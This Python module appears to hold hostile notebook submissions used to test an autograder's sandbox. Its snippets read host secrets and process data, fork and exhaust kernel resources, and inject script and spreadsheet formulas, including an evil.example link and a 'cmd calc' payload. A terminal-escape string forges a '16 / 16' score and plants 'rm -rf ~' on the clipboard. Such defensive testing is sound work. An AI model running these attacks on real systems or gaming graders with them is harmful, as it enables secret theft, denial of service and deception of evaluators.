"""The second round of hostile submissions (tests/test_grader_hostile.py): attacks on the other students, on
the batch, on what the kernel can see, on the limits, and on the instructor's files.

As in :mod:`redteam`, each kernel attack is the blank released ``01_permutation`` notebook with the attack's
code in place of the first answer, and reports what it reached on a line ``REACHED: [...]`` (an empty list
when it reached nothing). ``{probe}`` is replaced by a dict of what to aim at, made by the test.
"""

from __future__ import annotations

# name -> code. Every attack earns 0; the test checks what each one reports.
KERNEL_ATTACKS: dict[str, str] = {
    "read_host_secrets": """
        import glob, os
        probe = {probe}
        reached = []
        for path in probe["secrets"]:
            try:
                with open(path, "rb") as handle:
                    handle.read(16)
                reached.append(path)
            except OSError:
                pass
        for pattern in ("/var/tmp/**", "/run/**", "/home/**", "/root/**", "/srv/**", "/mnt/**", "/var/lib/**"):
            for path in glob.glob(pattern, recursive=True)[:5000]:
                if os.path.isfile(path) and os.access(path, os.R_OK) and not path.startswith(probe["public"]):
                    reached.append(path)
        print("REACHED:", sorted(set(reached))[:50])
        """,
    "read_environment": """
        import os
        print("REACHED:", sorted(f"{name}={value}" for name, value in os.environ.items() if "secret" in value))
        """,
    "connect_host_sockets": """
        import os, socket, stat
        probe = {probe}
        candidates = list(probe["sockets"])
        for top in ("/run", "/var/run", "/tmp", "/var/tmp", "/dev/shm"):
            for folder, _, names in os.walk(top):
                for name in names:
                    path = os.path.join(folder, name)
                    try:
                        if stat.S_ISSOCK(os.lstat(path).st_mode):
                            candidates.append(path)
                    except OSError:
                        pass
        reached = []
        for path in candidates:
            try:
                client = socket.socket(socket.AF_UNIX)
                client.settimeout(2)
                client.connect(path)
                reached.append(path)
            except OSError:
                pass
        print("REACHED:", reached)
        """,
    "stderr_flood": """
        import os
        block = b"x" * (1024 * 1024)
        for _ in range(80):
            for fd in (1, 2):
                try:
                    os.write(fd, block)
                except OSError:
                    pass
        """,
    "busy_processes": """
        import os, time
        for _ in range(60):
            try:
                if os.fork() == 0:
                    os.setsid()
                    while True:
                        pass
            except OSError:
                break
        time.sleep(8)
        """,
    "many_processes": """
        import os, time
        count = 0
        for _ in range(300):
            try:
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                count += 1
            except OSError:
                break
        print("PROCESSES:", count)
        """,
    "shm_hoard": """
        written = 0
        try:
            with open("/dev/shm/hoard", "wb") as handle:
                for _ in range(2560):
                    handle.write(b"0" * (1024 * 1024))
                    written += 1
        except OSError:
            pass
        print("SHM_MB:", written)
        """,
    "memfd_hoard": """
        import errno, os
        written, refused = 0, None
        try:
            fd = os.memfd_create("hoard")
            for _ in range(64):
                os.write(fd, b"0" * (1024 * 1024))
                written += 1
        except OSError as error:
            refused = errno.errorcode.get(error.errno)
        print("MEMFD:", [written, refused])
        """,
    "sysv_hoard": """
        import ctypes, errno
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        size = 64 * 1024 * 1024
        segment = libc.shmget(0, ctypes.c_size_t(size), 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
        if segment < 0:
            print("SYSV:", [0, errno.errorcode.get(ctypes.get_errno())])
        else:
            address = libc.shmat(segment, None, 0)
            ctypes.memset(address, 48, size)
            print("SYSV:", [size // (1024 * 1024), None])
        """,
    "per_user_counters": """
        import ctypes, errno, os
        libc = ctypes.CDLL(None, use_errno=True)
        held = {"inotify": 0, "mq": 0}
        refused = {}
        for _ in range(200):
            if libc.inotify_init1(0) < 0:
                refused["inotify"] = errno.errorcode.get(ctypes.get_errno())
                break
            held["inotify"] += 1
        for index in range(20):
            if libc.mq_open(f"/hoard{index}".encode(), os.O_CREAT | os.O_RDWR, 0o600, None) < 0:
                refused["mq"] = errno.errorcode.get(ctypes.get_errno())
                break
            held["mq"] += 1
        print("COUNTERS:", [held["inotify"], refused.get("inotify"), held["mq"], refused.get("mq")])
        """,
    "socket_buffers": """
        import errno, fcntl, os, socket
        def refusal(call):
            try:
                call()
            except OSError as error:
                return errno.errorcode.get(error.errno)
            return None
        first, second = socket.socketpair()
        grow = refusal(lambda: first.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30))
        read_end, write_end = os.pipe()
        pipe = refusal(lambda: fcntl.fcntl(write_end, 1031, 1 << 20))  # F_SETPIPE_SZ
        inet = refusal(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close())
        held, pairs = 0, []
        while True:
            try:
                pair = socket.socketpair()
            except OSError:
                break
            pairs.append(pair)
            pair[0].setblocking(False)
            while True:
                try:
                    held += pair[0].send(b"0" * 65536)
                except BlockingIOError:
                    break
        print("SOCKETS:", [held, len(pairs), grow, pipe, inet])
        """,
    "proc_leak": """
        import os
        mine = {os.getpid(), os.getppid()}
        def text(path):
            try:
                with open(path, "rb") as handle:
                    return handle.read().replace(b"\\0", b" ").decode(errors="replace").strip()
            except OSError:
                return None
        others = []
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) not in mine:
                line = text(f"/proc/{entry}/cmdline")
                if line:
                    others.append(line[:2000])
        machine = [text(f"/proc/{name}") for name in ("keys", "key-users", "slabinfo", "vmallocinfo", "timer_list")]
        print("PROC:", [text("/proc/cmdline"), text("/proc/sys/kernel/random/boot_id"), sorted(others), machine,
                        os.uname().nodename])
        """,
    "keyrings": """
        import ctypes, errno, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        keyctl = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
        found = libc.syscall(keyctl, ctypes.c_long(0), ctypes.c_long(-3), ctypes.c_long(0))  # the session keyring
        session = errno.errorcode.get(ctypes.get_errno()) if found < 0 else found
        queue = libc.msgget(0, 0o1000 | 0o600)  # a System V message queue: IPC_PRIVATE, IPC_CREAT
        print("KEYS:", [session, errno.errorcode.get(ctypes.get_errno()) if queue < 0 else queue])
        """,
    "device_modes": """
        import errno, os, stat
        # The machine's device files: each set to the mode it has, so that nothing changes if the sandbox lets it.
        results = []
        for name in ("null", "zero", "urandom"):
            try:
                os.chmod(f"/dev/{name}", stat.S_IMODE(os.stat(f"/dev/{name}").st_mode))
                results.append("changed")
            except OSError as error:
                results.append(errno.errorcode.get(error.errno))
        with open("/dev/null", "w") as null:
            null.write("still a sink")
        print("DEVICES:", results)
        """,
    "queued_signals": """
        import ctypes, errno, os, signal
        libc = ctypes.CDLL(None, use_errno=True)
        signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
        class Value(ctypes.Union):
            _fields_ = [("number", ctypes.c_int), ("pointer", ctypes.c_void_p)]
        queued = 0
        while queued < 100000 and libc.sigqueue(os.getpid(), int(signal.SIGRTMIN), Value(1)) == 0:
            queued += 1  # each one counts against the grader's account, machine-wide
        print("QUEUED:", [queued, errno.errorcode.get(ctypes.get_errno())])
        """,
    "nested_namespaces": """
        import ctypes, errno
        libc = ctypes.CDLL(None, use_errno=True)
        made = []
        for flag in (0x10000000, 0x40000000, 0x00020000):  # CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS
            # each namespace held counts against the grader's account up to the machine's user.max_*_namespaces
            made.append("made" if libc.unshare(flag) == 0 else errno.errorcode.get(ctypes.get_errno()))
        print("NAMESPACES:", made)
        """,
    "page_cache_advice": """
        import errno, os, sys
        refused = []
        handle = os.open(sys.executable, os.O_RDONLY)  # a file every process of the machine shares
        for advice in (os.POSIX_FADV_DONTNEED, os.POSIX_FADV_WILLNEED):
            try:
                os.posix_fadvise(handle, 0, 0, advice)  # would drop (or fill) the machine's cache of it
                refused.append(None)
            except OSError as error:
                refused.append(errno.errorcode.get(error.errno))
        print("ADVICE:", refused)
        """,
    "pseudo_terminals": """
        import errno, os
        opened = []
        try:
            while len(opened) < 5000:  # the machine's devpts instances share one count (kernel.pty.max)
                opened.extend(os.openpty())
            refusal = None
        except OSError as error:
            refusal = errno.errorcode.get(error.errno)
        print("PTYS:", [len(opened) // 2, refusal])
        """,
    "byte_range_locks": """
        import errno, fcntl, os
        handle = os.open("/tmp/locked", os.O_RDWR | os.O_CREAT)
        held, refusal = 0, None
        while held < 100000:  # every other byte: each range a lock of kernel memory that no limit counts
            try:
                fcntl.lockf(handle, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * held)
            except OSError as error:
                refusal = errno.errorcode.get(error.errno)
                break
            held += 1
        print("LOCKS:", [held, refusal])
        """,
    "aio_contexts": """
        import ctypes, errno, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        context = ctypes.c_ulong(0)
        io_setup = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
        made = libc.syscall(io_setup, ctypes.c_long(65536), ctypes.byref(context))  # the machine's whole aio-max-nr
        print("AIO:", [made, errno.errorcode.get(ctypes.get_errno()) if made < 0 else None])
        """,
    "descriptors_in_flight": """
        import array, errno, socket
        first, second = socket.socketpair()
        sent, refusal = 0, None
        for _ in range(400):  # more than the kernel's open files: in flight, they count against its account
            try:
                first.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [second.fileno()]).tobytes())])
                sent += 1
            except OSError as error:
                refusal = errno.errorcode.get(error.errno)
                break
        print("IN_FLIGHT:", [sent, refusal])
        """,
    "raised_limits": """
        import resource
        raised = []
        for name in ("AS", "CPU", "NPROC", "NOFILE", "FSIZE", "SIGPENDING", "MSGQUEUE"):
            kind = getattr(resource, "RLIMIT_" + name)
            soft, hard = resource.getrlimit(kind)
            try:
                resource.setrlimit(kind, (hard, hard) if hard != soft else (soft, soft + 1))
                if resource.getrlimit(kind)[0] > soft:
                    raised.append(name)
            except (ValueError, OSError):
                pass
        print("RAISED:", raised)
        """,
    "comm_flood": """
        from ipykernel.comm import Comm
        comm = Comm(target_name="flood", data={})
        payload = "z" * (15 * 1024 * 1024)
        for _ in range(200):
            comm.send(data={"payload": payload})
        """,
    "output_every_cell": """
        def loud(lines):
            return ["print('w' * 1_000_000)\\n", *lines]
        get_ipython().input_transformers_cleanup.append(loud)
        """,
    "html_and_script": """
        from IPython.display import HTML, Javascript, Markdown, SVG, display
        display(HTML("<script>document.title='pwned-by-html'</script><img src=x onerror=alert('pwned-onerror')>"
                     "<iframe src='javascript:alert(1)'></iframe><a href='javascript:alert(2)'>click</a>"))
        display(Javascript("document.title='pwned-by-javascript'"))
        display(Markdown("<script>document.title='pwned-by-markdown'</script>**bold**"))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='pwned-by-svg'</script></svg>"))
        """,
    "formula_exception": """
        Formula = type('=HYPERLINK("http://evil.example","click")', (Exception,), {})
        def self_attention(x, w_query, w_key, w_value, prefix=None):
            raise Formula("+cmd|' /C calc'!A0")
        def equivariance_error(layer, x, permutation):
            raise Formula("@SUM(1+1)")
        """,
    "terminal_escapes": """
        import os, sys
        forged = ("\\x1b]0;owned window title\\x07\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[8mhidden\\x1b[0m"
                  "\\r\\x1b[2Kscore 16 / 16\\n  grader | the notebook is fine\\u2028score 16 / 16\\n")
        for fd in (1, 2):
            os.write(fd, forged.encode())
        """,
}

# Twelve nested sines for each of the six entries of exercise 2.3 (02_sinusoidal, pe_d6_at_p_answer).
NESTED_SINES = "sin(" * 12 + "1" + ")" * 12
SYMPY_BOMB = f"pe_d6_at_p = [{NESTED_SINES!r}] * 6"
